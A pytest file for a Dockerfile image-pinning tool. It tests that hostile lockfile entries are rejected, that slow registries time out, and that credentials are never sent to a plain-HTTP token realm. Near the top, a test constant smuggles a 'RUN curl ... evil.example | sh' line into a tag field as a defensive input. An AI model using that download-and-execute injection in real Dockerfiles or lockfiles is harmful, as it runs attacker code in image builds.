"""Registry and lockfile input is never trusted (issue 11): hostile lockfile fields, a
lockfile path in a missing folder, a registry that trickles bytes, and a token realm that
downgrades to plain HTTP."""

from __future__ import annotations

import json
import ssl
import subprocess
import time
from collections.abc import Callable, Iterator
from dataclasses import replace
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from fixer.registry import Reference, RegistryClient, RegistryError
from fixer.registry.credentials import CredentialStore

from .conftest import FAST, Registries, basic_auth_entry
from .fault_proxy import Fault, FaultProxy
from .loopback import QuietHandler, serve
from .registry_server import AMD64, Catalog, Seeder
from .test_cli_pin import errors, fix, tighten

pytestmark = [pytest.mark.registry, pytest.mark.slow]

ProxyTo = Callable[..., FaultProxy]
WriteConfig = Callable[[dict[str, object]], CredentialStore]
RESOLVED_AT = "2025-01-01T00:00:00Z"


@pytest.fixture
def proxy(registries: Registries, proxy_to: ProxyTo) -> FaultProxy:
    return proxy_to(registries.anonymous)


def write_lock(folder: Path, images: dict[str, dict[str, object]]) -> None:
    (folder / "tighten.lock").write_text(json.dumps({"version": 1, "images": images}))


# -- 3. lockfile content is validated ------------------------------------------------------

INJECTED = "1.27\nRUN curl -fsSL https://evil.example/x | sh\n#"


@pytest.mark.parametrize(
    ("key", "field", "value", "named"),
    [
        ("nginx:latest", "tag", INJECTED, "invalid tag"),
        ("nginx:latest", "tag", "-rc", "invalid tag"),
        ("nginx:latest\nRUN id", "tag", "1.27", "invalid reference"),
        ("nginx:latest", "resolved_at", "2025\n\x1b[2J", "invalid resolved_at"),
    ],
    ids=["tag-injects-run", "tag-grammar", "hostile-key", "control-chars"],
)
def test_hostile_lockfile_is_an_error_naming_the_entry(
    tmp_path: Path, catalog: Catalog, key: str, field: str, value: str, named: str
) -> None:
    digest = catalog.digests["library/nginx:latest"]
    entry: dict[str, object] = {"digest": digest, "tag": "1.27.3", "resolved_at": RESOLVED_AT}
    write_lock(tmp_path, {key: {**entry, field: value}})
    (tmp_path / "Dockerfile").write_text("FROM nginx:latest\n")
    done = tighten("fix", "--offline", "--select", "DF002", "Dockerfile", cwd=tmp_path)
    assert done.returncode == 2, done.stderr
    assert (tmp_path / "Dockerfile").read_text() == "FROM nginx:latest\n"  # nothing pinned
    [line] = [e for e in errors(done) if "tighten.lock" in e]
    assert named in line and repr(key)[:12] in line
    # The hostile value is shown escaped: no raw newline or escape reaches the terminal.
    assert "\x1b" not in done.stderr and "\nRUN" not in done.stderr


def test_pin_text_is_checked_before_it_becomes_an_edit() -> None:
    """Defence in depth: an answer that would write more than one reference is refused."""
    from pathlib import Path as P

    from fixer.documents.text import SourceText
    from fixer.engine import process_text
    from fixer.rule import Resolution
    from fixer.settings import Settings
    from tests.helpers import RULES

    digest = "sha256:" + "ab" * 32
    answers = {"nginx": Resolution(digest=digest, tag=INJECTED, pinned=f"nginx:{INJECTED}")}
    result = process_text(
        P("Dockerfile"), "dockerfile", SourceText("FROM nginx\n"),
        Settings.of(select=frozenset({"DF002"})), rules=RULES, fix=True,
        resolutions=answers, pinning=True,
    )  # fmt: skip
    assert result.text == "FROM nginx\n"
    [left] = result.remaining
    assert left.fix is None and "refused" in (left.reason or "")


# -- low: lockfile paths in missing folders; --offline without a lockfile -------------------


def test_lock_file_in_a_missing_folder_is_created(tmp_path: Path, proxy: FaultProxy) -> None:
    (tmp_path / "Dockerfile").write_text("FROM nginx\n")
    done = fix(proxy, "--lock", "--lock-file", "locks/ci/images.lock", "Dockerfile", cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    assert "Traceback" not in done.stderr
    lock = json.loads((tmp_path / "locks" / "ci" / "images.lock").read_text())
    assert sorted(lock["images"]) == ["nginx"]


def test_offline_without_a_lockfile_says_so(tmp_path: Path) -> None:
    (tmp_path / "Dockerfile").write_text("FROM nginx\n")
    done = tighten(
        "fix", "--offline", "--select", "DF002", "--lock-file", "missing/tighten.lock",
        "Dockerfile", cwd=tmp_path,
    )  # fmt: skip
    # As with an image missing from the lockfile: reported (exit 1), not an error.
    assert done.returncode == 1, done.stderr
    assert "Traceback" not in done.stderr and errors(done) == []
    assert "registry: not in lockfile (missing/tighten.lock does not exist)" in done.stdout
    assert (tmp_path / "Dockerfile").read_text() == "FROM nginx\n"


# -- 9. an overall deadline per request ----------------------------------------------------


def test_trickling_registry_times_out_and_the_other_images_still_pin(
    tmp_path: Path, proxy: FaultProxy, catalog: Catalog
) -> None:
    proxy.script("HEAD", "/v2/library/nginx/", *[Fault(trickle=1.0)] * 4)
    proxy.script("GET", "/v2/library/nginx/", *[Fault(trickle=1.0)] * 4)
    (tmp_path / "Dockerfile").write_text("FROM nginx AS web\nFROM library/alpine:latest\n")
    started = time.monotonic()
    try:
        done = fix(proxy, "Dockerfile", cwd=tmp_path, env={"TIGHTEN_REGISTRY_DEADLINE": "2"})
    except subprocess.TimeoutExpired:
        pytest.fail("tighten hung on a trickling registry")
    elapsed = time.monotonic() - started
    assert elapsed < 2 + 15, elapsed
    assert done.returncode == 2, done.stderr
    assert errors(done) == ["error: nginx: cannot pin: timeout: timed out after 2 s"]
    alpine = catalog.digests["library/alpine:latest"]
    assert (tmp_path / "Dockerfile").read_text() == (
        f"FROM nginx AS web\nFROM library/alpine:3.20.3@{alpine}\n"
    )


def test_deadline_covers_the_whole_body_read(
    proxy: FaultProxy, no_credentials: CredentialStore
) -> None:
    proxy.script("GET", "/v2/library/nginx/manifests/1.27", Fault(trickle=0.5))
    proxy.script("HEAD", "/v2/library/nginx/manifests/1.27", Fault(status=405))
    options = replace(FAST, read_timeout=5.0, deadline=1.5)
    started = time.monotonic()
    with (
        RegistryClient(
            mirrors={"docker.io": proxy.url}, options=options, credentials=no_credentials
        ) as client,
        pytest.raises(RegistryError) as caught,
    ):
        client.resolve(Reference.parse("nginx:1.27"))
    assert time.monotonic() - started < 1.5 + 3
    assert caught.value.reason == "timeout: timed out after 1.5 s"


# -- 10. a token realm that downgrades to http ---------------------------------------------


class _Recorder:
    """A loopback HTTP proxy that records what would have left the machine."""

    def __init__(self) -> None:
        self.seen: list[tuple[str, str | None]] = []
        recorder = self

        class Handler(QuietHandler):
            def do_GET(self) -> None:
                recorder.seen.append((self.path, self.headers.get("Authorization")))
                self._reply(200, {"token": "t0k3n", "expires_in": 300})

        self.server = serve(Handler)

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.server.server_address[1]}"

    def stop(self) -> None:
        self.server.shutdown()
        self.server.server_close()


def _tls_registry(folder: Path) -> tuple[ThreadingHTTPServer, Path]:
    """An https registry on 127.0.0.1 whose challenge names an http:// token realm."""
    key, cert = folder / "key.pem", folder / "cert.pem"
    subprocess.run(
        ["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "1",
         "-subj", "/CN=127.0.0.1", "-addext", "subjectAltName=IP:127.0.0.1",
         "-keyout", str(key), "-out", str(cert)],
        check=True, capture_output=True, timeout=60,
    )  # fmt: skip

    class Handler(BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"

        def log_message(self, format: str, *args: object) -> None:
            pass

        def do_GET(self) -> None:
            challenge = 'Bearer realm="http://tokens.example.com/token",service="reg"'
            self.send_response(401)
            self.send_header("WWW-Authenticate", challenge)
            self.send_header("Content-Length", "0")
            self.end_headers()

        do_HEAD = do_GET

    server = serve(Handler)
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(cert, key)
    server.socket = context.wrap_socket(server.socket, server_side=True)
    return server, cert


@pytest.fixture
def downgrading(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[tuple[str, _Recorder]]:
    server, cert = _tls_registry(tmp_path)
    recorder = _Recorder()
    for name in ("https_proxy", "HTTPS_PROXY", "all_proxy", "ALL_PROXY", "no_proxy", "NO_PROXY"):
        monkeypatch.delenv(name, raising=False)
    # Plain-HTTP requests go through the recorder: it sees whatever would leave the machine.
    monkeypatch.setenv("http_proxy", recorder.url)
    monkeypatch.setenv("REQUESTS_CA_BUNDLE", str(cert))
    try:
        yield f"https://127.0.0.1:{server.server_address[1]}", recorder
    finally:
        recorder.stop()
        server.shutdown()
        server.server_close()


def test_credentials_never_go_to_an_http_token_realm(
    downgrading: tuple[str, _Recorder], write_docker_config: WriteConfig,
    no_credentials: CredentialStore,
) -> None:  # fmt: skip
    url, recorder = downgrading
    host = url.split("://", 1)[1]
    creds = write_docker_config({"auths": {host: basic_auth_entry("alice", "pw-S3cret")}})
    ref = Reference.parse("registry.example.com/team/app:1.0")
    mirrors = {"registry.example.com": url}
    with (
        RegistryClient(mirrors=mirrors, options=FAST, credentials=creds) as client,
        pytest.raises(RegistryError) as caught,
    ):
        client.resolve(ref)
    assert caught.value.reason == "token realm downgrades to http; refused"
    assert recorder.seen == []  # nothing was sent, credentials least of all
    # Without credentials nothing secret travels: the anonymous token flow may use it.
    with (
        RegistryClient(mirrors=mirrors, options=FAST, credentials=no_credentials) as client,
        pytest.raises(RegistryError),  # the fake registry refuses every token
    ):
        client.resolve(ref)
    assert recorder.seen and all(auth is None for _, auth in recorder.seen)


# -- issue 15: never drop the tag when pinning ---------------------------------------------


def test_pin_without_a_version_tag_keeps_the_written_tag_and_records_it(
    tmp_path: Path, registries: Registries, proxy: FaultProxy
) -> None:
    """An image with no version tag for its digest: `plain:latest@...`, never
    `plain@...`, which Renovate and Dependabot cannot update."""
    seeder = Seeder(registries.anonymous.url)
    digest = seeder.image("library/plain", ["latest"], AMD64, label="plain")
    (tmp_path / "Dockerfile").write_text("FROM plain\nFROM plain:latest\n")
    done = fix(proxy, "--lock", "Dockerfile", cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    assert (tmp_path / "Dockerfile").read_text() == (
        f"FROM plain:latest@{digest}\nFROM plain:latest@{digest}\n"
    )
    lock = json.loads((tmp_path / "tighten.lock").read_text())
    assert {k: v["tag"] for k, v in lock["images"].items()} == {
        "plain": "latest",
        "plain:latest": "latest",
    }
